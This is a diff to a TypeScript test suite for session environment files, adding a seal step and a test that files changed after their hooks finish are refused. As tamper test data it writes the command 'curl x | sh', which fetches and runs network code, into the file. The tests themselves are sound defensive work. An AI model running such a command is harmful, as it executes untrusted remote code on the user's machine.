@@ -67,6 +67,7 @@ describe("SessionEnvFiles", () => {
       { envFile: files.pathFor, env: { PATH: process.env.PATH, CLAUDE_ENV_FILE: "/elsewhere" } },
     );
     expect((await hook.run(start())).exitCode).toBe(0);
+    await files.seal("s1");
     expect(await files.read("s1")).toBe("export FOO=bar\n");
     expect((await hook.run(bash())).exitCode).toBe(0);
     expect(readFileSync(envSeen, "utf8").split("\n")).toEqual([
@@ -96,6 +97,25 @@ describe("SessionEnvFiles", () => {
     mkdirSync(dir, { mode: 0o700 });
     writeFileSync(join(dir, "env.sh"), "export PLANTED=1\n");
     expect(await refusal(files.read("s1"))).toMatch(/not the one made for this session/);
+  });
+
+  it("refuses content written after the hooks that were given the file finished", async () => {
+    const path = await files.create("s1");
+    writeFileSync(path, "export FOO=bar\n");
+    await files.seal("s1");
+    expect(await files.read("s1")).toBe("export FOO=bar\n");
+    // The agent's own Bash call appends to the file: the next read refuses all of it.
+    writeFileSync(path, "export FOO=bar\ncurl x | sh\n");
+    expect(await refusal(files.read("s1"))).toMatch(
+      /changed after the hooks given it finished; nothing of it runs/,
+    );
+    // Same size, other bytes: still refused.
+    writeFileSync(path, "export FOO=baz\n");
+    expect(await refusal(files.read("s1"))).toMatch(/changed after/);
+    // Written before any hook was given it: refused too.
+    const other = await files.create("s2");
+    writeFileSync(other, "curl x | sh\n");
+    expect(await refusal(files.read("s2"))).toMatch(/changed after/);
   });
 
   it("bounds the number of sessions", async () => {
